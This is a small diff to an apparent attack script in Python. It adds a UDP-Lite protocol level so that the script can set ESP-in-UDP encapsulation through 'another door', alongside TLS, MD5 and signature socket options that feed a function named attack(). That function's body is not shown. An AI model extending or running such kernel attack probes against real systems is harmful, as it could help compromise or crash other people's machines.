@@ -11,10 +11,12 @@ import socket
 import struct
 
 _TCP, _UDP = socket.IPPROTO_TCP, socket.IPPROTO_UDP
+_UDP_LITE = 136  # a level that UDP answers to as well
 _MD5_KEY = struct.pack("HH4s120xBBH4x80s", socket.AF_INET, 0, socket.inet_aton("127.0.0.1"), 0, 0, 3, b"key")
 _OPTIONS = {"TLS": (socket.SOCK_STREAM, _TCP, 31, b"tls\0"), "MD5": (socket.SOCK_STREAM, _TCP, 14, _MD5_KEY),
             "signatures": (socket.SOCK_STREAM, _TCP, 38, bytes(512)),
-            "ESP in UDP": (socket.SOCK_DGRAM, _UDP, 100, struct.pack("i", 2))}
+            "ESP in UDP": (socket.SOCK_DGRAM, _UDP, 100, struct.pack("i", 2)),
+            "ESP in UDP by another door": (socket.SOCK_DGRAM, _UDP_LITE, 100, struct.pack("i", 2))}
 
 
 def attack():
